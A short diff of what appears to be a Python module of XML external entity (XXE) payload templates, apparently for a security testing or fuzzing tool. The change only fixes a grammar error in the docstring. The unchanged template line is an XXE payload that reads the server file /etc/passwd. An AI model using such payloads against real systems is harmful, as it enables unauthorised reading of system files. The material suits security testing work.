@@ -1,4 +1,4 @@
-"""Templates of XML external entities, by a eighth hand."""
+"""Templates of XML external entities, by an eighth hand."""
 
 TEMPLATES = (
     r"""<?xml version="1.0"?><!DOCTYPE root [<!ENTITY «x:test|xxe|file|foo» SYSTEM 'file:///etc/passwd'>]><root>&«@x»;</root>""",
